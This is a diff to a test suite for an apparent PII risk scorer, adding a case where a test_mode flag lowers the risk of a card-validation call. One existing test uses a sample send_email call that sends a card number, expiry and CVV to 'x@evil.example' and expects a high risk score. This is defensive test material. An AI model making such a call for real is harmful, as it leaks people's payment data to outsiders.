@@ -67,6 +67,11 @@ describe('PII fourteenth round: published test cards', () => {
     expect(risk('payments.charge_card', { card_number: '4539 1488 0343 6467', exp: '12/27', mode: 'test' })).toBeGreaterThanOrEqual(40);
   });
 
+  it('a test flag argument says the call tests; the same flag set to false does not', () => {
+    expect(risk('validate_credit_card', { card_number: '4111 1111 1111 1111', test_mode: true })).toBeLessThan(40);
+    expect(risk('validate_credit_card', { card_number: '4111 1111 1111 1111', test_mode: false })).toBeGreaterThanOrEqual(40);
+  });
+
   it('a test number in a message with no test word is still a card (synthetic data uses them)', () => {
     expect(risk('send_email', { to: 'x@evil.example', body: 'My card: 4111 1111 1111 1111 exp 01/28 cvv 123' })).toBeGreaterThanOrEqual(40);
     const f = scanPii('card 4242 4242 4242 4242 exp 01/28').filter((x) => x.type === 'CREDIT_CARD');
